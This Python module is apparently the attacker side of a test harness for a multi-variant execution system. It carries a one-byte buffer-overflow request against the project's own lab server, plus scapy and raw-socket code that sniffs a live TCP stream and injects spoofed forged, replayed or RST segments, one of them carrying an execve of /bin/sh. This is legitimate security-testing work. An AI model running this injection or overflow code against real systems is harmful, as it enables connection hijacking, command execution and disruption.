"""The attacker host's program (scapy), run inside the attacker's namespace.

``python -m realmode.net.attacker KIND ...`` is started through the attacker
host, so scapy -- which reads the interfaces and routes of the namespace it
is imported in -- is imported inside that namespace, by this process, and
never by the orchestrator. Kinds:

``exploit``
    Deliver an input to the served program: a request whose name overflows
    ``struct session`` of ``net_server.c`` by one byte. In the layout-0 build
    that byte is the ``admin`` flag (the program then execs a shell), in the
    layout-1 build it is unused: one variant misbehaves.
``forge``
    Inject a CONNECTOR frame into the live TCP stream between the leader's
    CONNECTOR and a follower's: a well-formed frame (the protocol is no
    secret) tagged with a key the attacker made up.
``replay``
    Inject a copy of an authentic frame seen earlier on the same stream.
``reset``
    Inject a TCP RST into the stream.

``--towards leader`` (the default) spoofs the follower and hits the leader's
CONNECTOR; ``--towards follower`` spoofs the leader.

The three stream attacks need the stream's state: the attacker sniffs it
(its switch floods every frame, see :mod:`realmode.net.network`), follows
each direction's next sequence number and acknowledgement, and forges a
segment that the receiving kernel accepts as the next bytes of the stream
(or, for the RST, whose sequence number is exactly the one expected -- the
only one RFC 5961 lets reset a connection). It fires when the stream has
been quiet for ``--quiet`` seconds (both sides' numbers are then current,
and neither side is in the middle of sending), so the real sender is
unlikely to use the same sequence numbers at that moment; if the stream goes
on as if nothing happened (the real sender won the race), it tries again.
A run whose stream is never quiet (back-to-back requests) gives it no
chance: the tests pace their requests.

Output: JSON lines on stdout -- ``ready`` when listening, ``injected`` per
attempt (with ``time.monotonic()``, the same clock as the orchestrator's),
``done`` or ``failed``.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_IGNORE_OUTGOING = 23
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
_MOD = 1 << 32


def _promiscuous(ifindex: int) -> bytes:
    """A ``struct packet_mreq`` asking for every frame of interface ``ifindex``
    (the membership ends with the socket)."""
    return struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b"")


def emit(**event: Any) -> None:
    """One JSON line on stdout, flushed at once: the orchestrator reads the
    events while this program runs (``injected`` carries a time)."""
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def run_reported(work: Callable[[], None]) -> int:
    """Run an attacker program's ``work``; exit status 0, or 1 after a
    ``failed`` event naming the exception -- reported, not raised, because
    what a failed attack means is the orchestrator's to decide."""
    try:
        work()
    except Exception as error:  # noqa: BLE001 - reported as an event, the orchestrator decides
        emit(event="failed", message=f"{type(error).__name__}: {error}")
        return 1
    return 0


def server_address(text: str) -> tuple[str, int]:
    """``IP:PORT`` as a socket address."""
    host, _, port = text.rpartition(":")
    return host, int(port)


def read_to_end(sock: socket.socket, ends: tuple[type[OSError], ...] = ()) -> bytes:
    """Every byte the server sends on ``sock`` until it closes the
    connection. An error of a type in ``ends`` also ends the answer (what
    came before it is kept); any other error is raised."""
    answer = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except ends:
            break
        if not chunk:
            break
        answer += chunk
    return answer


def later(a: int | None, b: int | None) -> int | None:
    """The later of two TCP sequence numbers (modulo 2**32)."""
    if a is None:
        return b
    if b is None:
        return a
    return a if (a - b) % _MOD < _MOD // 2 else b


def exploit_request() -> bytes:
    """The input that flips ``admin`` in the layout-0 build of net_server."""
    return b"GET /hello?name=" + b"A" * 16 + b"\x01 HTTP/1.0\r\n\r\n"


def exploit(server: tuple[str, int], timeout: float) -> None:
    emit(event="ready")
    sent = time.monotonic()
    try:
        with socket.create_connection(server, timeout=timeout) as sock:
            sock.sendall(exploit_request())
            emit(event="injected", time=sent, attempt=1)
            answer = read_to_end(sock)
    except OSError as error:
        emit(event="done", answer=None, error=str(error))
        return
    emit(event="done", answer=answer.decode(errors="replace"))


def _goes(
    segment: tuple[tuple[str, int], tuple[str, int]], src: tuple[str, int | None], dst: tuple[str, int | None]
) -> bool:
    """Whether ``segment`` ((address, port) from, to) goes from end ``src`` to end ``dst``, each
    (address, port); a port of None (the follower's, until it is learnt) matches any."""
    return all(
        address == want and (port is None or seen == port) for (address, seen), (want, port) in zip(segment, (src, dst))
    )


class Stream:
    """What the attacker knows of one TCP connection, per direction
    (``lf``: leader to follower, ``fl``: back)."""

    def __init__(self, leader: str, follower: str, port: int) -> None:
        self.leader, self.follower, self.port = leader, follower, port
        self.fport: int | None = None
        self.mac: dict[str, tuple[str, str]] = {}  # direction -> (src, dst)
        self.end: dict[str, int | None] = {"lf": None, "fl": None}
        self.ack: dict[str, int | None] = {"lf": None, "fl": None}
        self.window: dict[str, int] = {"lf": 512, "fl": 512}
        self.options: dict[str, list] = {"lf": [], "fl": []}
        self.frames: dict[str, list[bytes]] = {"lf": [], "fl": []}  # whole CONNECTOR frames seen
        self.closed = False

    def direction(self, pkt: Any) -> str | None:
        from scapy.layers.inet import IP, TCP

        if IP not in pkt or TCP not in pkt:
            return None
        segment = ((pkt[IP].src, pkt[TCP].sport), (pkt[IP].dst, pkt[TCP].dport))
        leader, follower = (self.leader, self.port), (self.follower, self.fport)
        if _goes(segment, leader, follower):
            return "lf"
        if _goes(segment, follower, leader):
            return "fl"
        return None

    def update(self, pkt: Any) -> tuple[str, int] | None:
        """Learn from a sniffed segment; (direction, payload length) if it is ours."""
        from scapy.layers.inet import TCP
        from scapy.layers.l2 import Ether

        way = self.direction(pkt)
        if way is None:
            return None
        tcp = pkt[TCP]
        if self.fport is None:
            self.fport = tcp.dport if way == "lf" else tcp.sport
        self.mac[way] = (pkt[Ether].src, pkt[Ether].dst)
        payload = bytes(tcp.payload)
        flags = int(tcp.flags)
        if flags & 0x05:  # FIN or RST: the connection is ending
            self.closed = True
        length = len(payload) + (1 if flags & 0x03 else 0)  # SYN and FIN take a number
        self.end[way] = later(self.end[way], (tcp.seq + length) % _MOD)
        if flags & 0x10:
            self.ack[way] = later(self.ack[way], tcp.ack)
        self.window[way] = tcp.window
        self.options[way] = list(tcp.options)
        if _whole_frame(payload) and len(self.frames[way]) < 8:
            self.frames[way].append(payload)
        return way, len(payload)

    def next_seq(self, way: str) -> int | None:
        other = "fl" if way == "lf" else "lf"
        return later(self.end[way], self.ack[other])


def _whole_frame(payload: bytes) -> bool:
    """Whether a segment carries exactly one CONNECTOR frame (header, payload
    length at bytes 20-24, tag: docs/protocol.md, section 2)."""
    from dmvx.protocol import FRAME_OVERHEAD, MAGIC

    return (
        len(payload) >= FRAME_OVERHEAD
        and payload[:4] == MAGIC
        and FRAME_OVERHEAD + int.from_bytes(payload[20:24], "big") == len(payload)
    )


def forged_frame(sender: int, receiver: int) -> bytes:
    """A well-formed frame from ``sender`` to ``receiver`` whose tag is made
    with a key the attacker chose: it cannot authenticate. To the leader it
    claims the follower consumed a million entries (which would free a
    compromised leader from the CB bound); to a follower it hands over an
    entry for execve."""
    from dmvx.calls import Call, Outcome
    from dmvx.messages import Ack, Entry, EntryKind
    from dmvx.protocol import FrameWriter, new_run_key

    writer = FrameWriter(new_run_key(), sender, receiver)
    for _ in range(999):  # a plausible sequence number further on
        writer.heartbeat()
    if receiver == 0:
        return writer.encode(Ack("0", 1_000_000, sender))
    return writer.encode(Entry("0", 1, Call("execve", ("/bin/sh", ("/bin/sh",), None)), EntryKind.FULL, Outcome(0)))


def stream_attack(
    kind: str,
    towards: str,
    iface: str,
    leader: str,
    follower: str,
    port: int,
    wait: float,
    tries: int,
    deadline: float,
    quiet: float = 0.02,
) -> None:
    """Forge, replay or reset on the CONNECTOR stream, injecting segments
    that travel ``towards`` the leader (spoofing the follower) or a follower
    (spoofing the leader)."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    listen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    listen.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)  # not our own injections
    listen.bind((iface, ETH_P_ALL))
    # Frames addressed to others too: a bridge's own port (the segment of
    # machines reached over SSH, seen from this machine) passes them up only
    # to a promiscuous listener; a host's veth passes them anyway.
    listen.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, _promiscuous(socket.if_nametoindex(iface)))
    send = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    send.bind((iface, 0))
    stream = Stream(leader, follower, port)
    port_bytes = port.to_bytes(2, "big")
    # The direction the injected segment claims to travel, and the other one.
    way, back = ("fl", "lf") if towards == "leader" else ("lf", "fl")
    emit(event="ready")
    armed_at = time.monotonic() + wait
    attempts = 0
    last_try: float | None = None
    last_seen = time.monotonic()
    while time.monotonic() < deadline:
        readable, _, _ = select.select([listen], [], [], quiet / 4)
        now = time.monotonic()
        if stream.closed and attempts:
            emit(event="done", attempts=attempts)
            return
        if readable:
            raw = listen.recv(65536)
            # A cheap look before scapy parses: IPv4, TCP, our port on either side.
            if len(raw) < 38 or raw[12:14] != b"\x08\x00" or raw[23] != 6 or port_bytes not in raw[34:38]:
                continue
            if stream.update(Ether(raw)) is not None:
                last_seen = now
            continue
        # Fire into a quiet stream: nothing seen either way for ``quiet``
        # seconds, so both sides' numbers are current and neither is about
        # to use them. If the stream is still open 0.3 s after a try, a real
        # segment won the race: try again.
        if (
            now < armed_at
            or attempts >= tries
            or now - last_seen < quiet
            or stream.closed
            or (last_try is not None and now - last_try < 0.3)
        ):
            continue
        frames = stream.frames[way]
        if (kind == "replay" and not frames) or stream.fport is None or len(stream.mac) < 2:
            continue
        attempts += 1
        src_ip, dst_ip = (follower, leader) if way == "fl" else (leader, follower)
        sport, dport = (stream.fport, port) if way == "fl" else (port, stream.fport)
        src, dst = stream.mac[way]
        seq = stream.next_seq(way)
        if kind == "reset":
            segment = TCP(sport=sport, dport=dport, seq=seq, flags="R", window=0)
        else:
            sender, receiver = (1, 0) if way == "fl" else (0, 1)
            # Replay: the first authentic frame this side sent (its hello),
            # long since accepted by the receiver.
            payload = forged_frame(sender, receiver) if kind == "forge" else frames[0]
            segment = (
                TCP(
                    sport=sport,
                    dport=dport,
                    seq=seq,
                    ack=stream.next_seq(back),
                    flags="PA",
                    window=stream.window[way],
                    options=stream.options[way],
                )
                / payload
            )
        send.send(bytes(Ether(src=src, dst=dst) / IP(src=src_ip, dst=dst_ip) / segment))
        last_try = time.monotonic()
        emit(event="injected", time=last_try, attempt=attempts, seq=seq, towards=towards)
    emit(event="failed", attempts=attempts, message="the run ended before the stream did")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m realmode.net.attacker")
    parser.add_argument("kind", choices=("exploit", "forge", "replay", "reset"))
    parser.add_argument("--iface", default="")
    parser.add_argument("--leader", default="")
    parser.add_argument("--follower", default="")
    parser.add_argument("--port", type=int, help="the leader CONNECTOR's port, drawn per run (forge, replay, reset)")
    parser.add_argument(
        "--towards",
        choices=("leader", "follower"),
        default="leader",
        help="which CONNECTOR receives the injected segments",
    )
    parser.add_argument("--server", default="", help="IP:PORT of the served program (exploit)")
    parser.add_argument("--wait", type=float, default=0.3, help="seconds to let the run get going")
    parser.add_argument("--tries", type=int, default=5)
    parser.add_argument("--quiet", type=float, default=0.02, help="seconds of silence on the stream before firing")
    parser.add_argument("--timeout", type=float, default=20.0)
    args = parser.parse_args(argv)
    if args.kind != "exploit" and args.port is None:
        parser.error(f"{args.kind} needs --port")
    deadline = time.monotonic() + args.timeout

    def work() -> None:
        if args.kind == "exploit":
            server = server_address(args.server)
            time.sleep(args.wait)
            exploit(server, args.timeout)
        else:
            stream_attack(
                args.kind,
                args.towards,
                args.iface,
                args.leader,
                args.follower,
                args.port,
                args.wait,
                args.tries,
                deadline,
                args.quiet,
            )

    return run_reported(work)


if __name__ == "__main__":
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    sys.exit(main())
